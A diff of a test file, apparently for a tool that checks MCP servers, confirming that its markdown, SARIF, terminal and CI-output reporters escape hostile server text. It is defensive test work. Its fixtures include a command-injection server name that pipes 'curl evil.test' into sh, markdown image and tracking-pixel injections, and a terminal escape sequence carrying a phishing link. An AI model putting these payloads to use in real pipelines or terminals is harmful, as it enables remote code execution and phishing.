@@ -88,11 +88,11 @@ describe('escapeMarkdown', () => {
     expect(renderable(escapeMarkdown(text))).toEqual([]);
   });
 
-  it('keeps code spans, the project\'s own formatting, as they are', () => {
+  it("keeps code spans, the project's own formatting, as they are", () => {
     expect(escapeMarkdown('Set `transport: auto`, or ``a`b``.')).toBe('Set `transport: auto`, or ``a`b``.');
   });
 
-  it('escapes what follows a code span a backtick in the server\'s text closed early', () => {
+  it("escapes what follows a code span a backtick in the server's text closed early", () => {
     expect(escapeMarkdown(`Add \`resource="x\`${IMAGE}"\` to it`)).toBe('Add `resource="x`\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)"\\` to it');
   });
 
@@ -114,10 +114,10 @@ describe('escapeSarifText', () => {
   });
 });
 
-describe('reporters given the server\'s words', () => {
+describe("reporters given the server's words", () => {
   const report = reportWith([HOSTILE], `<img src=${PIXEL}>${IMAGE}`);
 
-  it('the job summary renders no image, link or HTML of the server\'s, and keeps its own layout', () => {
+  it("the job summary renders no image, link or HTML of the server's, and keeps its own layout", () => {
     const summary = formatSummary(report);
     expect(renderable(summary)).toEqual([]);
     expect(summary).toContain('**`tools.name`** The tool name "\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)" is odd &lt;img');
@@ -144,14 +144,17 @@ describe('reporters given the server\'s words', () => {
     expect(text).toContain('\\x1b[2J\\x1b]8;;http://127.0.0.1:9/phish\\x07link');
   });
 
-  it('SARIF messages carry no embedded link of the server\'s', () => {
+  it("SARIF messages carry no embedded link of the server's", () => {
     const [result] = formatSarif(report, [], { fallbackLocation: { file: 'README.md' } }).runs[0].results ?? [];
     expect(result.message.text).not.toMatch(/(?<!\\)[[\]]/);
     expect(result.message.text).toContain('!\\[x\\](http://127.0.0.1:9/pixel.png)');
   });
 
-  it('step outputs carry no shell code of the server\'s into a run: script that pastes them', () => {
-    const outputs = formatOutputs({ ...report, server: { name: 'x"; curl evil.test | sh; echo "$(id)`id`\nnext', version: '1.2.3-beta+build', protocolVersion: '2025-11-25', capabilities: {} } });
+  it("step outputs carry no shell code of the server's into a run: script that pastes them", () => {
+    const outputs = formatOutputs({
+      ...report,
+      server: { name: 'x"; curl evil.test | sh; echo "$(id)`id`\nnext', version: '1.2.3-beta+build', protocolVersion: '2025-11-25', capabilities: {} },
+    });
     expect(outputs['server-name']).toBe('x__ curl evil.test _ sh_ echo ___id__id__next');
     expect(outputs['server-version']).toBe('1.2.3-beta+build');
     expect(formatOutputs({ ...report, server: { ...report.server!, name: 'mcp-servers/everything' } })['server-name']).toBe('mcp-servers/everything');
